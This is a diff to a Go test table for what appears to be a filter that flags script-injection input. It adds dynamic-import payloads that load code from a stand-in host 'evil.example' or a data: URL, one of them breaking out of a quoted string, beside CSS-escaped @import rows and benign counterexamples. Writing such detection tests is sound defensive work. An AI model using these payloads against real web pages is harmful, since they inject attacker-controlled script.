@@ -69,6 +69,15 @@ func TestGrammarShapes(t *testing.T) {
 		{"<?php", false},
 		{"<?php ?>", false},
 		{"<?=", false},
+		// A dynamic import of a module from another origin or a data:
+		// URL runs that module's code; a playground's own chunks and CDN
+		// imports written in full pass.
+		{"import('//evil.example/x.js')", true},
+		{"\";import(`//evil.example`)//", true},
+		{"import('data:text/javascript,alert(1)')", true},
+		{"const m = await import('./chunk.js');", false},
+		{"await import(\"https://esm.sh/react@18\")", false},
+		{"We import (and sell) fine teas", false},
 		// CSS escapes inside a style sheet's @import.
 		{"<STYLE>@\\import'http://evil.example/x.css';</STYLE>", true},
 		{"<style>@\\69mport url(//evil.example/x.css)</style>", true},
